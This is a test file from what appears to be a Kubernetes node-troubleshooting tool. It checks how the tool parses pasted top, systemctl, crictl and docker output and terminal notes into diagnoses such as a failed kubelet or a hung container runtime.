      '  40211 root      20   0  712340  41232  30112 D   0.0   0.1   0:00.02 runc',
      '    812 root      20   0 5123400 1.2g    51232 S   1.3   3.9  45:12.33 containerd',
    ].join('\n');
    const read = readPastedEvidence(top, 'p');
    expect(Object.keys(read.bundle.commandOutputs ?? {})).toEqual(['top']);
    const d = diagnoseText(top);
    const facts = d.causes.flatMap((c) => c.evidence).map((e) => e.text);
    expect(facts).toContain('load average: 212.41');
    expect(facts.some((t) => t.startsWith('%Cpu(s):'))).toBe(true);
    expect(facts).toContain('40211 D runc');
  });
});

describe('systemctl status', () => {
  const failed = [
    '× kubelet.service - kubelet: The Kubernetes Node Agent',
    '     Loaded: loaded (/lib/systemd/system/kubelet.service; enabled; vendor preset: enabled)',
    '    Drop-In: /etc/systemd/system/kubelet.service.d',
    '             └─10-kubeadm.conf',
    '     Active: failed (Result: exit-code) since Mon 2026-11-23 03:07:58 UTC; 14min ago',
    '       Docs: https://kubernetes.io/docs/home/',
    '    Process: 40211 ExecStart=/usr/bin/kubelet $KUBELET_KUBECONFIG_ARGS (code=exited, status=1/FAILURE)',
    '   Main PID: 40211 (code=exited, status=1/FAILURE)',
    '',
    'Nov 23 03:07:58 worker-7 systemd[1]: kubelet.service: Start request repeated too quickly.',
    "Nov 23 03:07:58 worker-7 systemd[1]: kubelet.service: Failed with result 'exit-code'.",
  ].join('\n');

  it.each([
    ['failed', failed, { stopped: true, restarting: false }],
    [
      'inactive (dead)',
      failed.replace(
        /Active: failed[^\n]*/,
        'Active: inactive (dead) since Mon 2026-11-23 03:07:58 UTC; 2h ago',
      ),
      { stopped: true },
    ],
    [
      'auto-restart',
      failed
        .replace(/Active: failed/, 'Active: activating (auto-restart)')
        .replace('Start request repeated too quickly', 'Scheduled restart job'),
      { stopped: false, restarting: true },
    ],
  ])('reads the unit state: %s', (_name, text, expected) => {
    expect(readUnitStatus(text)).toMatchObject({ unit: 'kubelet.service', ...expected });
  });

  it('a kubelet unit that failed for good is a kubelet that is not coming back', () => {
    const read = readPastedEvidence(failed, 'p');
    expect(Object.keys(read.bundle.commandOutputs ?? {})).toEqual(['systemctl status kubelet.service']);
    const d = diagnoseText(failed);
    expect(d.verdict).toBe('node_unreachable');
    const cited = d.causes[0]?.evidence.map((e) => `${e.source} ${e.text}`) ?? [];
    expect(cited).toContain(
      'commandOutputs["systemctl status kubelet.service"] kubelet.service: Active: failed (Result: exit-code) since Mon 2026-11-23 03:07:58 UTC; 14min ago Main PID: 40211 (code=exited, status=1/FAILURE)',
    );
    // The journal tail after the block is read as log lines, at their own line numbers.
    expect(cited).toContain(
      "pasted:11 Nov 23 03:07:58 worker-7 systemd[1]: kubelet.service: Failed with result 'exit-code'.",
    );
  });

  it('a runtime unit that failed for good names the runtime down', () => {
    const containerd = failed
      .replaceAll('kubelet', 'containerd')
      .replace('The Kubernetes Node Agent', 'runtime');
    expect(readPastedEvidence(containerd, 'p').bundle.commandOutputs).toHaveProperty([
      'systemctl status containerd.service',
    ]);
    expect(diagnoseText(containerd).verdict).toBe('runtime_down');
  });
});

describe('terminal sessions and notes', () => {
  it('reads a command and its output from prompts: crictl ps timing out is the runtime not answering', () => {
    const read = readPastedEvidence(fixture('mixed-paste.txt'), 'pasted');
    expect(Object.keys(read.bundle.commandOutputs ?? {})).toEqual([
      'crictl ps',
      'systemctl status containerd',
    ]);
    const facts = extractFacts(read.bundle, read.facts);
    expect(examples(facts, 'runtime.cmd_hang')).toContainEqual(expect.stringMatching(/^crictl ps → E1123/));
    expect(facts.has('runtime.service_failed')).toBe(false);
    // The note is kept as an observation; the journal lines as the kubelet's own messages.
    expect(read.facts.examples('runtime.cmd_hang').some((f) => f.source === 'pasted:1')).toBe(true);
    expect(read.facts.examples('runtime.list_timeout')[0]?.source).toBe('pasted:9');
    expect(read.logSources).toContain('kubelet');
  });

  it('a docker ps interrupted with ^C is a hang; a root prompt written as a note is a note', () => {
    const session = [
      '[root@worker-3 ~]# timeout 30 docker ps',
      '^C',
      '[root@worker-3 ~]# uptime',
      ' 03:10:01 up 21 days',
    ].join('\n');
    const read = readPastedEvidence(session, 's');
    expect(read.bundle.commandOutputs).toMatchObject({ 'timeout 30 docker ps': '^C' });
    expect(extractFacts(read.bundle, read.facts).has('runtime.cmd_hang')).toBe(true);
    const note = readPastedEvidence('# docker ps hangs forever\n# 卡住了\n', 'n');
    expect(note.bundle.commandOutputs).toBeUndefined();
    expect(note.facts.examples('runtime.cmd_hang')[0]?.source).toBe('n:1');
  });

  it('reads crictl’s own failure line without its command: listing containers timed out is crictl ps hanging', () => {
    const read = readPastedEvidence(
      'FATA[0002] listing containers: rpc error: code = DeadlineExceeded desc = context deadline exceeded\nafter that nothing worked\n',
      'p',
    );
    expect(read.bundle.commandOutputs).toEqual({
      'crictl ps':
        'FATA[0002] listing containers: rpc error: code = DeadlineExceeded desc = context deadline exceeded',
    });
    expect(extractFacts(read.bundle, read.facts).has('runtime.cmd_hang')).toBe(true);
    const inspect = readPastedEvidence(
      'time="2026-11-23T03:09:01Z" level=fatal msg="getting the status of the container \\"3f1c\\": rpc error: code = DeadlineExceeded desc = context deadline exceeded"',
      'p',
    );
    expect(extractFacts(inspect.bundle, inspect.facts).has('runtime.container_cmd_hang')).toBe(true);
  });

  it('reads a container list pasted without its command: the runtime answered, and which containers are Up', () => {
    const paste = [
      'docker inspect 235e659080ce hangs forever, but docker ps still answers:',
      'CONTAINER ID   IMAGE                  COMMAND          CREATED          STATUS          PORTS     NAMES',
      '235e659080ce   c1737175c581           "sleep 300000"   10 minutes ago   Up 10 minutes             k8s_fork_fork_default_c0b5a0ee_0',
      'cf363558c3b0   k8s.gcr.io/pause:3.1   "/pause"         10 minutes ago   Up 10 minutes             k8s_POD_fork_default_c0b5a0ee_0',
      'Nov 23 03:07:58 worker-2 dockerd[900]: time="2026-11-23T03:07:58Z" level=info msg="shim reaped" id=235e659080ce3f1c2d9e8a7b',
    ].join('\n');
    const read = readPastedEvidence(paste, 'p');
    expect(Object.keys(read.bundle.commandOutputs ?? {})).toEqual(['docker ps']);
    const facts = extractFacts(read.bundle, read.facts);
    expect(facts.has('runtime.answers')).toBe(true);
    expect(facts.has('runtime.selective_hang')).toBe(true);
    const crictl = readPastedEvidence(
      'CONTAINER           IMAGE               CREATED             STATE               NAME                ATTEMPT             POD ID\n3f1c2d9e8a7b1       5c9f1a2b3c4d5       2 hours ago         Running             web                 0                   9a8b7c6d5e4f3',
      'p',
    );
    expect(crictl.bundle.commandOutputs).toHaveProperty(['crictl ps']);
  });

  it('keeps people’s descriptions (English and Chinese) as observations', () => {
    const read = readPastedEvidence('docker ps hangs since this morning\ncrictl ps 卡住\n', 'n');
    expect(read.facts.count('runtime.cmd_hang')).toBe(2);
  });
});

describe('streaming', () => {
  it('reads the same evidence whatever the chunk boundaries, with line numbers of the whole text', async () => {
    const text =
      fixture('mixed-paste.txt') + fixture('describe-node.txt') + fixture('goroutines-kubelet.txt');
    const whole = diagnoseText(text, { name: 'f' });
    const pieces: string[] = [];
    for (let i = 0; i < text.length; i += 97) pieces.push(text.slice(i, i + 97));
    const streamed = await diagnoseLogs([{ name: 'f', chunks: pieces }]);
    expect(streamed).toEqual(whole);
    expect(whole.node).toBe('worker-7');
    expect(whole.causes.flatMap((c) => c.evidence).map((e) => e.source)).toContain('f:9');
  });

  it('gathers several files about one node into one bundle, and a named node wins', async () => {
    const d = await diagnoseLogs(
      [
        { name: 'describe.txt', chunks: [fixture('describe-node.txt')] },
        { name: 'kubelet.log', chunks: [fixture('goroutines-runtime-call.txt')], origin: 'kubelet' },
      ],
      { node: 'other-node' },
    );
    expect(d.node).toBe('other-node');
    expect(d.observed.runtime).toBe('containerd');
    expect(d.verdict).toBe('runtime_down');
  });
});
